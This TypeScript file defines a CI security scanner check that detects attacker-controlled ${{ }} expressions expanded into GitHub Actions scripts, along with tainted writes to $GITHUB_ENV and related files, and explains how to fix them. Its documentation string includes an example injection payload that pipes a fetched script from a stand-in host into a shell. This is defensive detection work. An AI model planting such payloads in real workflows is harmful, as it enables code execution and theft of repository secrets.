import type { Check } from '../types.js';
import type { FindingDraft, Severity } from '../../model/types.js';
import type { Job, Scalar, Step, WorkflowFile } from '../../workflows/model.js';
import { expressionsIn } from '../../workflows/expressions.js';
import { exposure, privilege, triggerNames } from '../../workflows/context.js';
import { region, stepLabel } from '../locs.js';
import { bodyTaint, worse, type InjectionTaint, type RefTaint, type TaintScope } from './lib-taint.js';
import { codeInputsOf, payloadVariables, runnerFileWrites, type RunnerFile } from './lib-sinks.js';

/** Triggers where a run routinely handles pull-request code or artifacts with the base repository's token. */
const PR_PRIVILEGED = new Set(['pull_request_target', 'workflow_run']);

interface FileContext {
  w: WorkflowFile;
  exposure: 'high' | 'medium' | 'low' | 'action';
  reusable: boolean;
}

function attackerSeverity(ctx: FileContext, privileged: boolean): Severity {
  if (ctx.exposure === 'high') return privileged ? 'critical' : 'high';
  if (ctx.exposure === 'action' || ctx.reusable) return 'high';
  return 'medium';
}

function severityFor(taint: InjectionTaint, refs: RefTaint[], ctx: FileContext, privileged: boolean): Severity | undefined {
  switch (taint) {
    case 'attacker':
      return attackerSeverity(ctx, privileged);
    case 'insider':
      return refs.every((r) => r.weak) ? 'low' : 'medium';
    case 'indirect':
      return 'low';
    default:
      return undefined;
  }
}

function where(ctx: FileContext, job: Job, step: Step): string {
  return ctx.w.kind === 'action' ? `Composite action ${stepLabel(step)}` : `Job "${job.id}" ${stepLabel(step)}`;
}

function describeRef(r: RefTaint): string {
  const ref = r.ref.length > 60 ? `${r.ref.slice(0, 57)}...` : r.ref;
  switch (r.taint) {
    case 'attacker':
      return r.via ? `attacker-controlled data (env.${r.via})` : `attacker-controlled ${ref}`;
    case 'insider':
      if (r.via) return `caller-controlled data (env.${r.via})`;
      return /^github\.ref(_name)?$/.test(r.ref) ? `the branch or tag name ${ref}` : `caller-controlled ${ref}`;
    default:
      return r.via ? `env.${r.via}, which holds a value from another step,` : ref;
  }
}

/** `UPPER_SNAKE` env name for the lift-to-env fix, from the last segments of the context path. */
export function envNameFor(ref: string): string {
  const parts = ref.split('.').filter((p) => p !== '*' && p !== 'github' && p !== 'event');
  const name = parts.slice(-2).join('_').replace(/[^A-Za-z0-9]+/g, '_').replace(/^_+|_+$/g, '').toUpperCase();
  return /^[A-Z_]/.test(name) ? name : `V_${name}`;
}

function scanFile(w: WorkflowFile, hostedLabels: readonly string[]): FindingDraft[] {
  const out: FindingDraft[] = [];
  const names = triggerNames(w);
  const ctx: FileContext = {
    w,
    exposure: w.kind === 'action' ? 'action' : exposure(w),
    reusable: names.has('workflow_call'),
  };
  // Aliased scalars resolve to their anchor: report each `${{ }}` span once.
  const seen = new Set<number>();
  for (const job of w.jobs) {
    const privileged = w.kind === 'workflow' && privilege(w, job, hostedLabels).privileged;
    for (const step of job.steps) {
      const scope: TaintScope = { workflow: w, job, step };
      const sinks: { scalar: Scalar; what: string; fixable: boolean; kind: string }[] = [];
      if (step.run) sinks.push({ scalar: step.run, what: 'its run: script', fixable: true, kind: 'run' });
      for (const c of codeInputsOf(step)) {
        if (c.input.value === undefined) continue;
        sinks.push({
          scalar: { value: c.input.value, loc: c.input.loc, keyLoc: c.input.keyLoc },
          what: `the ${c.language} in with.${c.input.key}`,
          fixable: c.fixable,
          kind: `with.${c.input.key}`,
        });
      }
      for (const sink of sinks) {
        for (const span of expressionsIn(w, sink.scalar)) {
          if (seen.has(span.loc.offset)) continue;
          const t = bodyTaint(span.body, scope);
          const severity = severityFor(t.taint, t.refs, ctx, privileged);
          if (!severity) continue;
          seen.add(span.loc.offset);
          const first = t.refs[0];
          out.push({
            severity,
            message: `${where(ctx, job, step)} expands ${describeRef(first)} into ${sink.what}; pass it through env: and quote the variable instead.`,
            path: w.path,
            region: region(span.loc),
            job: job.id,
            step: stepLabel(step),
            fixable: sink.fixable,
            data: { context: first.ref, taint: t.taint, sink: sink.kind, envName: envNameFor(first.via ? `env.${first.via}` : first.ref) },
          });
        }
      }
      const envWrite = runnerFileFinding(ctx, job, step, privileged);
      if (envWrite) out.push(envWrite);
    }
  }
  return out;
}

/** Taint of a shell variable the step, job or workflow binds in `env:` (unbound: undefined). */
function boundTaint(name: string, scope: TaintScope): InjectionTaint | undefined {
  const lists = [scope.step?.env, scope.job?.env, scope.workflow.env];
  for (const list of lists) {
    const kv = list?.find((e) => e.key === name);
    if (!kv) continue;
    if (kv.value === undefined || !kv.value.includes('${{')) return 'safe';
    let t: InjectionTaint = 'safe';
    for (const span of expressionsIn(scope.workflow, { value: kv.value, loc: kv.loc })) t = worse(t, bodyTaint(span.body, scope).taint);
    return t;
  }
  return undefined;
}

/** The zizmor "github-env" case: non-literal data written into $GITHUB_ENV / $GITHUB_PATH (or $GITHUB_OUTPUT). */
function runnerFileFinding(ctx: FileContext, job: Job, step: Step, privileged: boolean): FindingDraft | undefined {
  if (!step.run) return undefined;
  const names = triggerNames(ctx.w);
  const prPrivileged = [...names].some((n) => PR_PRIVILEGED.has(n));
  const scope: TaintScope = { workflow: ctx.w, job, step };
  let best: { severity: Severity; file: RunnerFile; detail: string } | undefined;
  const rank = (s: Severity): number => ['info', 'low', 'medium', 'high', 'critical'].indexOf(s);
  for (const write of runnerFileWrites(step.run.value)) {
    if (write.payload.includes('${{')) continue; // the expansion itself is reported above
    const { vars, commandSubstitution } = payloadVariables(write.payload);
    if (vars.length === 0 && !commandSubstitution) continue; // a literal value
    let taint: InjectionTaint = 'unknown';
    let tainted: string | undefined;
    for (const v of vars) {
      const t = boundTaint(v, scope);
      if (t && worse(taint, t) !== taint) {
        taint = t;
        tainted = v;
      }
    }
    let severity: Severity | undefined;
    if (taint === 'attacker' && (ctx.exposure === 'high' || ctx.exposure === 'action' || ctx.reusable)) {
      severity = write.file === 'GITHUB_OUTPUT' ? 'medium' : attackerSeverity(ctx, privileged);
    } else if (write.file !== 'GITHUB_OUTPUT') {
      if (ctx.exposure === 'action') severity = taint === 'insider' ? 'medium' : 'low';
      else if (prPrivileged) severity = 'medium';
    }
    if (!severity) continue;
    if (!best || rank(severity) > rank(best.severity)) {
      const detail = tainted && taint === 'attacker' ? `attacker-controlled $${tainted}` : vars.length > 0 ? `$${vars[0]}` : 'command output';
      best = { severity, file: write.file, detail };
    }
  }
  if (!best) return undefined;
  const why = best.file === 'GITHUB_OUTPUT' ? 'where a newline can forge extra step outputs' : 'which can set variables such as LD_PRELOAD or BASH_ENV, or put attacker binaries on PATH, for every later step';
  return {
    severity: best.severity,
    message: `${where(ctx, job, step)} writes ${best.detail} into $${best.file}, ${why}.`,
    path: ctx.w.path,
    region: region(step.run.keyLoc ?? step.run.loc),
    job: job.id,
    step: stepLabel(step),
    fixable: false,
    data: { sink: best.file },
  };
}

export const expressionInjection: Check = {
  meta: {
    id: 'expression-injection',
    title: 'Attacker-controlled ${{ }} expanded into a script',
    defaultSeverity: 'high',
    severityNote:
      'Critical when an outsider-reachable privileged trigger feeds a privileged job; high for outsider-controlled text otherwise ' +
      '(and in composite actions and reusable workflows, whose caller is unknown); medium for pull_request workflows and for ' +
      'values insiders control (inputs, release text, branch names); low for step outputs re-expanded through env:.',
    inputs: ['F'],
    fix: 'edit',
    tier: 1,
    standards: { owasp: ['CICD-SEC-4'], slsa: 'Build L3', ssdf: ['PW.5.1'], atlas: ['AML.T0010.001'] },
    docs: {
      why:
        'GitHub substitutes `${{ }}` expressions into a script before the shell, node or python sees it. A pull request title, ' +
        'branch name, issue or comment body, or commit message is chosen by whoever opens it, so `run: echo "${{ github.event.issue.title }}"` ' +
        'runs their command (`"; curl evil | sh; #`) with the job\'s token and secrets. This is how the Ultralytics release pipeline ' +
        '(`git pull origin ${{ github.head_ref || github.ref }}` in a composite action) and nx were compromised. Writing such data ' +
        'into `$GITHUB_ENV` or `$GITHUB_PATH` is the same attack one step removed: it sets `LD_PRELOAD`, `BASH_ENV` or `PATH` for every later step.',
      howToFix:
        'Pass the value through `env:` and reference the shell variable, quoted: `env: { TITLE: ${{ github.event.issue.title }} }` ' +
        'then `run: echo "$TITLE"` (`$env:TITLE` in PowerShell, `process.env.TITLE` in github-script). Do not use `${{ env.TITLE }}`, ' +
        'which is expanded the same way. Never write untrusted text into `$GITHUB_ENV`/`$GITHUB_PATH`; validate it against a strict pattern first.',
      references: [
        'https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections',
        'https://securitylab.github.com/resources/github-actions-untrusted-input/',
        'https://docs.zizmor.sh/audits/#template-injection',
        'https://docs.zizmor.sh/audits/#github-env',
      ],
    },
  },
  run(input) {
    return [...input.workflows, ...input.actions].flatMap((w) => scanFile(w, input.options.hostedRunnerLabels));
  },
};
